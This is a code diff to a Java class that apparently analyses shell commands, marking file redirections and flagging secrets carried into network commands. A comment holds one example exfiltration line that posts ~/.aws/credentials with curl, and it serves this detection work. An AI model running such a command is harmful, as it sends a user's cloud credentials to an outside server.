@@ -91,7 +91,9 @@ final class SimpleCommands {
         s.words().forEach(w -> words.addAll(expanded(w)));
         Map<String, String> env = new HashMap<>(walk.env);
         env.putAll(prefix);
+        int dispatched = walk.operations.size();
         dispatch(new Run(words, env, stdin, walk.evidence(s.span()), walk.locators, 0));
+        RowsToFile.target(s, walk).ifPresent(file -> RowsToFile.mark(walk.operations, dispatched, file));
         if (!substituted.isEmpty()) {
             // curl -d "$(cat ~/.aws/credentials)" https://…: a secret read for an argument of a network command leaves with it.
             Flows.carried(s, substituted, walk).filter(c -> c.type().equals("credentials")).ifPresent(cargo ->
